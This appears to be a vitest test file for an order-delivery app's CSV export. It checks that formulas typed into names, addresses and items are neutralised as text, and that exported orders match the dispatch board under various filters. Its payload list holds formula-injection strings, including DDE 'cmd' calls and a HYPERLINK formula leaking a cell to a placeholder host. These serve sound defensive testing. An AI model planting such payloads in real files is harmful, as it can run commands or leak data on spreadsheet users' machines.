import { describe, expect, it } from 'vitest';
import { parsePhone } from '#domain/format/phone.ts';
import { parseCsv } from '#testing/documents/csv.ts';
import { openWorld } from '#testing/openWorld.ts';
import { anOrder, aShirt } from '#testing/orders.ts';
import { exportCsv } from './exports.ts';

const world = openWorld();

/** T-X4: a spreadsheet would run these texts if they were exported as they were typed. */
const PAYLOADS = [
  `=1+1`,
  `=cmd|' /C calc'!A0`,
  `+2250701020304`,
  `-2+3+cmd|' /C calc'!A0`,
  `@SUM(1+1)*cmd|' /C calc'!A0`,
  `\t=1+1`,
  `\r=1+1`,
  `\0=1+1`,
  `  =HYPERLINK("http://x.example?"&A1;"voir")`,
  `＝1+1`,
  `=1+1";=2+2`,
  `"=1+1`,
];
const isFormula = (cell: string) => /^[\s\0]*[=+\-@＝＋－＠]/.test(cell);

async function readCells(kind: string, query: Record<string, string> = {}): Promise<string[][]> {
  const { stream } = exportCsv(await world.ctx(world.superadmin('Chef')), kind, query);
  return parseCsv(await new Response(stream).text());
}

describe('T-X4: formulas in what people typed', () => {
  it('are text in every column of every file, and nothing of them spills into other cells', async () => {
    for (const payload of PAYLOADS) {
      const client = world.client(payload);
      const livreur = world.livreur(payload);
      anOrder(world, {
        clientId: client.id,
        clientName: payload,
        livreurId: livreur.id,
        livreurName: payload,
        clientAddress: payload,
        items: [{ ...aShirt(800, 1, payload), service: payload }],
      });
    }
    for (const kind of ['commandes', 'lignes', 'clients', 'livreurs']) {
      const [headings, ...rows] = await readCells(kind);
      expect(rows).toHaveLength(PAYLOADS.length);
      for (const row of rows) {
        expect(row).toHaveLength(headings?.length ?? 0);
        expect(row.filter(isFormula)).toEqual([]);
      }
      const cells = rows.flat().map((cell) => cell.replace(/^'/, ''));
      for (const payload of PAYLOADS)
        expect([kind, payload, cells.includes(payload)]).toEqual([kind, payload, true]);
    }
  });

  it('phones make the round trip', async () => {
    const client = world.client('Awa Koné');
    anOrder(world, { clientId: client.id, clientContactPhone: '+33612345678' });
    const [, order] = await readCells('commandes');
    const [, person] = await readCells('clients');
    expect(parsePhone(order?.[4]?.replace(/^'/, '') ?? '')).toBe('+33612345678');
    expect(parsePhone(person?.[1]?.replace(/^'/, '') ?? '')).toBe(client.phone);
  });
});

describe('the file and the board', () => {
  it('hold the same orders, whatever the filters', async () => {
    const livreur = world.livreur();
    const names = ['Awa Koné', 'Ismaël Traoré', 'Noël N’Guessan'];
    const statuses = ['pending', 'assigned', 'completed', 'cancelled'] as const;
    for (let i = 0; i < 60; i++)
      anOrder(world, {
        clientName: names[i % 3],
        status: statuses[i % 4],
        livreurId: i % 5 ? null : livreur.id,
        paymentState: i % 7 ? 'due' : 'paid',
        paymentMethod: i % 2 ? 'wave' : 'espece',
        createdAt: world.clock.now() - i * 3_600_000,
      });
    const someId = (await world.as(world.admin()).dispatch.board({})).items[3]?.id ?? '';
    const now = world.clock.now();
    const cases = [
      {},
      { search: 'kone' },
      { search: 'nguessan' },
      { search: 'isma TRA' },
      { search: someId.slice(2, 9) },
      { search: '%' },
      { status: 'completed' as const, paymentState: 'paid' as const },
      { livreurId: livreur.id, paymentMethod: 'espece' as const },
      { from: now - 20 * 3_600_000, to: now - 3_600_000, search: 'awa' },
    ];
    const { dispatch } = world.as(world.superadmin());
    for (const filters of cases) {
      const shown = await dispatch.board({ ...filters, limit: 100 });
      const query = Object.fromEntries(Object.entries(filters).map(([name, value]) => [name, String(value)]));
      const rows = (await readCells('commandes', query)).slice(1);
      expect([filters, rows.map((row) => row[0]?.trim())]).toEqual([
        filters,
        shown.items.map((o) => o.id.slice(0, 8)),
      ]);
    }
  });
});
